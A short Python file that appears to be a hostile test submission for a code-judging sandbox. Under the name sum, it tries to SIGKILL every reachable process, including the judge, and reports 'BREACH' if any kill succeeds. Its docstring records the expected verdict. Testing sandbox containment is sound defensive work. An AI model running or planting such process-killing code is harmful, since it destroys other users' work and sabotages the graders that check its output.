"""Kills every process that it can reach.
verdict: accepted
effect: signal judge"""
import os
import signal


def sum(x):
    for pid in [-1] + list(range(2, 3000)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        raise SystemError(f"BREACH {pid}")
    return int(x.sum())
